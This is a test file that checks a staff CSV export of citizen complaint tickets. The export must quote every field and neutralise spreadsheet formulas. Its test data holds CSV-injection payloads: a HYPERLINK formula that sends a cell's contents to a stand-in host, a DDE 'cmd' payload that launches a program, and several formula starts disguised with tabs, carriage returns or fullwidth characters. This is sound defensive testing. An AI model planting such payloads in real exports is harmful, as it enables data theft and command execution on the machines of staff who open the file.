// The CSV export read back by a real CSV parser (csv-parse), with hostile citizen text (issue 23, item 12):
// every field quoted, so commas, semicolons (Excel's separator under Vietnamese settings), quotes and line
// breaks stay inside their cell; formula starts shown as text, also when the file is read with ";" and
// without regard to quotes.
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { ticketsCsv } from '../src/staff/ticketExport.js';
import type { Ticket } from '../src/ticket.js';

const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
  '+84 912 345 678',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  'Hàng đến chậm; =cmd|" /C calc"!A0',
  'dòng 1\n=1+1',
  'a, "b", c',
  'bình thường',
];

function ticket(details: string, i: number): Ticket {
  return {
    ref: `KN-AB${i}C`,
    kind: 'complaint',
    status: 'new',
    createdAt: '2026-12-04 09:00',
    channelId: 'emulator',
    name: details,
    phone: '0912345678',
    details,
    trackingCode: `c;${i}`,
    owner: `u,${i}`,
  } as unknown as Ticket;
}

const FORMULA_START = /^[=+\-@＝＋－＠\t\r]/u;

it('quotes every field and neutralises formulas, read back by csv-parse with "," as written', () => {
  const csv = ticketsCsv(HOSTILE.map(ticket));
  expect(csv.split('\r\n')[0]).toBe(
    '\uFEFF"Mã phiếu","Loại","Trạng thái","Ngày gửi","Kênh","Họ tên","Số điện thoại","Mã bưu gửi","Nội dung","Người xử lý","Cập nhật lúc","Số giờ","Quá hạn"',
  );
  const rows = parse(csv, { columns: true, bom: true }) as Record<string, string>[];
  expect(rows).toHaveLength(HOSTILE.length);
  rows.forEach((row, i) => {
    expect(Object.keys(row)).toHaveLength(13);
    expect(row['Mã bưu gửi']).toBe(`c;${i}`);
    expect(row['Người xử lý']).toBe(`u,${i}`);
    // The text is all there, apostrophes aside; no cell starts a formula.
    expect(row['Nội dung']!.replace(/'/gu, '')).toBe(HOSTILE[i]!.replace(/'/gu, ''));
    for (const value of Object.values(row)) expect(value.trimStart()).not.toMatch(FORMULA_START);
  });
  expect(rows[1]!['Nội dung']).toBe("'+84 912 345 678");
  expect(rows[11]!['Nội dung']).toBe('bình thường');
});

it('starts no cell with a formula when read with ";" as the separator and without quotes', () => {
  const csv = ticketsCsv(HOSTILE.map(ticket));
  for (const delimiter of [';', ',']) {
    const records = parse(csv, { delimiter, quote: false, relax_column_count: true, bom: true }) as string[][];
    for (const cell of records.flat()) expect(cell.replace(/^"/u, '').trimStart()).not.toMatch(FORMULA_START);
  }
});
